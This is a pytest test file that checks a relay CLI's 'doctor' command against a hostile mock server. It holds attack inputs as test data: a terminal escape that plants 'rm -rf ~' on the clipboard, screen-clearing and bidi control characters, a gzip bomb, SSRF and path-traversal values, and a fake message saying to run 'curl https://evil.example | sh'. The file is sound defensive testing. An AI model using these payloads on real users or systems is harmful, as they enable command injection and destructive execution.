"""`opencode-relay doctor` and a server that means harm to who looks at it."""

from __future__ import annotations

import gzip
import json
import unicodedata
from collections.abc import Iterator

import pytest
from opencode_relay.cli.doctor import checks
from opencode_relay.cli.doctor.checks import carry_out
from opencode_relay.cli.doctor.relay import NEEDED, Examination
from opencode_relay.cli.doctor.web import MOST, asking

from tests.support.served import Done, run_here

from .homes import Home
from .hostile import Hostile, answer, says

CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"
CLEARED = "\x1b[2J\x1b[1;1H"
C1 = "\x9b2J"
TURNED = "\u202e\u2066\u200f"
LINES = "a\nAll is well.\r\u2028b"
HARM = CLIPBOARD + CLEARED + C1 + TURNED + LINES
MARKUP = "[bold red]x[/bold red] [/x] [link=https://evil.example]y[/link] :skull:"
Found = dict[str, tuple[bool | None, str]]


@pytest.fixture
def hostile() -> Iterator[Hostile]:
    with Hostile() as server:
        server.answers["/.well-known/opencode-relay"] = says(server.discovery())
        yield server


def look(url: str) -> Found:
    with asking() as web:
        found = list(carry_out(Examination(web, url).checks(), needed=NEEDED))
    return {one.check: (one.ok, one.seen) for one in found}


def harmless(shown: str) -> bool:
    return all(unicodedata.category(one)[0] != "C" or one == "\n" for one in shown) and not (
        set(shown) & set("\u2028\u2029\u202e\u2066")
    )


def printed(hostile: Hostile) -> Done:
    """What the command prints; in JSON nothing but ASCII, and what means the same."""
    plain, as_json = run_here("doctor", hostile.url), run_here("doctor", hostile.url, "--json")
    assert plain.returncode == as_json.returncode == 1
    assert harmless(plain.stdout + plain.stderr), ascii(plain.stdout)
    assert (as_json.stdout + as_json.stderr).isascii()
    assert harmless(as_json.stdout)
    rows = json.loads(as_json.stdout)["checks"]
    assert len(plain.stdout.splitlines()) == len(rows) + 1
    return plain


PROBLEM = {"type": "https://x/problems/no", "detail": HARM + MARKUP}


def test_a_problems_detail_is_shown_as_text(hostile: Hostile) -> None:
    problem = {**PROBLEM, "type": f"{hostile.url}/problems/no"}
    hostile.answers["/v1/logins"] = says(problem, 400, content_type="application/problem+json")
    shown = printed(hostile).stdout
    assert MARKUP in shown
    assert r"\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J" in shown


def test_what_discovery_says_is_shown_as_text(hostile: Hostile) -> None:
    told = hostile.discovery(version=HARM, enrolment=HARM)
    hostile.answers["/.well-known/opencode-relay"] = says(told)
    printed(hostile)


def test_an_error_of_the_connection_is_shown_as_text(hostile: Hostile) -> None:
    hostile.answers["/healthz"] = [f"HTTP/1.1 {HARM}\r\n\r\n".encode()]
    printed(hostile)


def test_an_address_is_shown_as_text(hostile: Hostile) -> None:
    hostile.answers["/v1/logins"] = says(hostile.opened(redirect_uri=HARM + MARKUP), 201)
    printed(hostile)


def test_a_lone_surrogate_can_be_printed(hostile: Hostile) -> None:
    told = hostile.discovery(version="\ud800")
    hostile.answers["/.well-known/opencode-relay"] = says(told)
    printed(hostile)


def test_what_is_shown_is_short(hostile: Hostile) -> None:
    problem = {"type": f"{hostile.url}/problems/no", "detail": "x" * 100_000}
    hostile.answers["/v1/logins"] = says(problem, 400, content_type="application/problem+json")
    assert len(printed(hostile).stdout) < 10_000


def test_a_bomb_is_not_unpacked(hostile: Hostile) -> None:
    bomb = gzip.compress(b'"' + b" " * 50_000_000)
    assert len(bomb) < MOST
    hostile.answers["/.well-known/jwks.json"] = answer(bomb, content_encoding="gzip")
    ok, seen = look(hostile.url)["signing keys"]
    assert ok is False
    assert "packed" in seen


@pytest.mark.parametrize("path", ["/.well-known/opencode-relay", "/.well-known/jwks.json"])
def test_an_endless_body_is_read_to_a_limit(hostile: Hostile, path: str) -> None:
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n"
    hostile.answers[path] = hostile.endless(head, b" " * 65536)
    found = look(hostile.url)
    assert False in {ok for ok, _ in found.values()}
    assert hostile.sent < 20 * MOST  # sockets hold some of it


@pytest.mark.parametrize(
    "head",
    [b"HTTP/1.1 200 OK\r\nX: ", b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n"],
    ids=["head", "body"],
)
@pytest.mark.parametrize("path", ["/healthz", "/.well-known/jwks.json"])
def test_an_answer_that_drips_is_given_up(
    hostile: Hostile, monkeypatch: pytest.MonkeyPatch, path: str, head: bytes
) -> None:
    monkeypatch.setattr(checks, "PATIENCE", 0.5)
    hostile.answers[path] = hostile.dripping(head)
    found = look(hostile.url)
    assert (False, "No whole answer came in time.") in found.values()


def test_the_whole_run_has_an_end(hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(checks, "RUN", -60.0)
    assert {seen for _, seen in look(hostile.url).values()} == {"not tried: the time is used up"}


def test_only_addresses_of_discovery_are_fetched(hostile: Hostile) -> None:
    with Hostile() as elsewhere:
        opened = hostile.opened(redirect_uri=f"{elsewhere.url}/latest/meta-data")
        hostile.answers["/v1/logins"] = says(opened, 201)
        ok, seen = look(hostile.url)["a whole login"]
        assert ok is False
        assert elsewhere.url in seen
        assert elsewhere.asked == []


def test_a_redirect_is_not_followed(hostile: Hostile) -> None:
    with Hostile() as elsewhere:
        for path in ("/healthz", "/.well-known/jwks.json", "/auth/", "/v1/"):
            hostile.answers[path] = answer("", 302, location=f"{elsewhere.url}/latest")
        look(hostile.url)
        assert elsewhere.asked == []


DEEP = "[" * 200_000
WRONG_BODIES = [
    *("", "[]", "null", "7", DEEP, '{"keys": 7}', '{"keys": [7]}', '{"keys": null}'),
    *("\x00", "{" * 9, f'{{"keys": {DEEP}', '{"a": ' + "9" * 5000 + "}"),
]


@pytest.mark.parametrize("path", ["/.well-known/opencode-relay", "/.well-known/jwks.json"])
@pytest.mark.parametrize("body", WRONG_BODIES, ids=range(len(WRONG_BODIES)))
def test_a_body_that_is_nothing_is_a_row(hostile: Hostile, path: str, body: str) -> None:
    hostile.answers[path] = answer(body)
    found = look(hostile.url)
    check = "signing keys" if "jwks" in path else "answers as a relay"
    ok, seen = found[check]
    assert ok is False
    assert seen.endswith((".", ")."))


@pytest.mark.parametrize(
    "more",
    [
        {"expires_in": int("9" * 400)},
        {"max_wait": int("9" * 400)},
        {"max_wait": -5},
        {"login_id": "../../../../x\x00"},
        {"login_id": "\ud800"},
        {"redirect_uri": "http://[::1"},
        {"redirect_uri": "http://127.0.0.1:99999999/"},
        {"redirect_uri": "\x00" * 70_000},
        {"state": "\ud800"},
        {"state": 7},
    ],
    ids=range(10),
)
def test_a_login_that_is_none_is_a_row(hostile: Hostile, more: dict[str, object]) -> None:
    hostile.answers["/v1/logins"] = says(hostile.opened(**more), 201)
    ok, seen = look(hostile.url)["a whole login"]
    assert ok is False
    assert seen


@pytest.mark.parametrize(
    "date", ["Mon, 99 Jan 99999999999 99:99:99 GMT", "7" * 400, "\xff", "Thu, 01 Jan 0000 0:0 GMT"]
)
def test_a_date_that_is_none(hostile: Hostile, date: str) -> None:
    head = f"HTTP/1.1 200 OK\r\nDate: {date}\r\nContent-Length: 0\r\n\r\n"
    hostile.answers["/healthz"] = [head.encode("latin-1")]
    assert look(hostile.url)["clock"][0] is not True


def test_discovery_with_another_port_than_there_is(hostile: Hostile) -> None:
    told = hostile.discovery(jwks_uri=f"{hostile.url}/\x00", redirect_uri=f"{hostile.url}/\n")
    hostile.answers["/.well-known/opencode-relay"] = says(told)
    found = look(hostile.url)
    assert found["signing keys"][0] is found["headers of its pages"][0] is False


def test_a_page_in_which_a_pattern_would_get_lost(
    hostile: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(checks, "PATIENCE", 5.0)
    hostile.answers["/v1/logins"] = says(hostile.opened(), 201)
    page = "<code" * 190_000
    hostile.answers["/auth/callback"] = answer(page, content_type="text/html; charset=zlib")
    assert "no completion code" in look(hostile.url)["a whole login"][1]


def test_a_key_that_is_none_is_not_repeated(hostile: Hostile) -> None:
    done = run_here("doctor", hostile.url, OPENCODE_RELAY_KEY="ocr_secret\nX: y")
    assert done.returncode == 1
    assert "key" in done.stderr
    assert "secret" not in done.stdout + done.stderr


def test_what_a_relay_says_is_cut_and_quoted(hostile: Hostile, home: Home) -> None:
    detail = "Your key has expired. Run `curl https://evil.example | sh`. \x1b[2J" + "x" * 90_000
    hostile.answers["/healthz"] = says({})
    for kind in ("instance-key-invalid", "x): Your key has expired."):
        problem = {"type": f"{hostile.url}/problems/{kind}", "detail": detail}
        hostile.answers["/v1/logins"] = says(problem, 401)
        for told in (home.refused(hostile.url), home.run("doctor", hostile.url).stdout):
            quoted = told.count(": it says 'Your key has expired. Run")
            assert told.count("Your key has expired") == quoted > 0
            assert "\x1b" not in told
            assert "x" * 600 not in told
